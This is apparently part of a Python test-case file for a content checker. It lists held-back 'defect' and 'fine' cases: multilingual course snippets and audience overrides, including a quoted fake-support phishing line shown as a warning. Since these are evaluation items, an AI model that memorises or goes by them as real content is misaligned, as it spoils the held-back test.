        "fr_fle",
        "length",
        held=True,
        audience_override="Adultes A1. Quatre heures par semaine pendant deux mois.",
        size=6,
    ),
    defect(
        "hb5_length_pt_noites",
        "pt_vendas",
        "length",
        held=True,
        audience_override="Vendedores. Uma noite por semana durante três semanas.",
        size=40,
    ),
    fine(
        "hb5_fine_here_is_template",
        "leadership",
        html("Agenda", p("Here is a simple agenda template you can copy into your calendar invite.")),
        held=True,
    ),
    fine(
        "hb5_fine_as_requested_by_hr",
        "safety_onboarding",
        html("Footwear", p("Steel toe-caps are required on the floor, as agreed with the union.")),
        held=True,
    ),
    fine(
        "hb5_fine_quoted_bot_fr",
        "fr_securite",
        html(
            "Faux support",
            p(
                "Un faux support technique écrit souvent : « Bien sûr ! Voici le lien pour réinitialiser votre mot de passe. » Ne cliquez jamais."
            ),
        ),
        held=True,
    ),
    fine(
        "hb5_fine_es_espero",
        "es_historia",
        html("Expectativas", p("La República esperaba que la reforma agraria redujera el paro en el campo.")),
        held=True,
    ),
    fine(
        "hb5_fine_de_hoffe_historical",
        "de_kunden",
        html(
            "Kundenstimmen",
            p("Die Kundin schrieb, sie hoffe auf eine schnelle Lösung; antworten Sie innerhalb eines Tages."),
        ),
        held=True,
    ),
    fine(
        "hb5_fine_xxl",
        "safety_onboarding",
        html("Sizes", p("Hi-vis vests come in sizes M, L, XL and XXL; ask stores for yours.")),
        held=True,
    ),
    fine(
        "hb5_fine_roman_century",
        "es_historia",
        html("Contexto", p("En el siglo XX España vivió varios cambios de régimen.")),
        held=True,
    ),
    fine(
        "hb5_fine_question_marks",
        "fr_fle",
        html(
            "L'intonation",
            p(
                "À l'oral, une question peut rester sans inversion : « Tu viens ?? » s'écrit plutôt « Tu viens ? »."
            ),
        ),
        held=True,
    ),
    fine(
        "hb5_fine_length_daily_pt",
        "pt_matematica",
        held=True,
        audience_override="Alunos de 11 anos. 20 minutos por dia durante quatro semanas.",
        size=7,
    ),
    fine(
        "hb5_fine_unreadable_fr",
        "fr_fle",
        held=True,
        audience_override="Adultes A1, à leur rythme.",
        expect_warnings=frozenset({"length_unchecked"}),
    ),
]

CASES: list[Case] = (
    TUNED
    + HELD_BACK
    + HELD_BACK_B
    + HELD_BACK_C
    + HELD_BACK_D
    + HELD_BACK_E
    + HELD_BACK_F
    + HELD_BACK_G
    + HELD_BACK_H
    + HELD_BACK_I
)
